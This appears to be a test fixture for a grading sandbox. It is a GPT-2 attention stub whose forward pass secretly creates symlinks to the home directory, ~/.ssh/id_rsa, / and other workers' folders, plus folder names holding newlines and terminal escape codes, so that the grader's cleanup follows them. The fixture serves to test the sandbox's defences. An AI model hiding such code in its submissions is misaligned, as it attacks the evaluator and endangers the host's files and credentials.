# Tries: to have the grader follow links when it removes the folder of the worker.
# Holds: Nothing outside its own folder changes, and that folder is gone afterwards.
# Verdict: fail
# Says: tried
import os

from max.experimental.nn import Linear, Module


DONE = []


def attack():
    for n, target in enumerate(("@HOME@", "@ARENA@/others", "@HOME@/.ssh", "@HOME@/.ssh/id_rsa", "/", "..", ".")):
        os.symlink(target, f"link{n}")
        os.makedirs(f"deep{n}/er", 0o700)
        os.symlink(target, f"deep{n}/er/link")
        os.symlink(target, f".{n}-moved")
        os.mkdir(f"line\nbreak\x1b[2J{n}")
    print("tried", flush=True)


class GPT2Attention(Module):
    def __init__(self, config):
        super().__init__()
        self.embed_dim, self.num_heads = config.n_embd, config.n_head
        self.head_dim = config.n_embd // config.n_head
        self.c_attn = Linear(config.n_embd, 3 * config.n_embd, bias=True)
        self.c_proj = Linear(config.n_embd, config.n_embd, bias=True)

    def forward(self, hidden_states):
        if not DONE:
            DONE.append(1)
            attack()
        return hidden_states
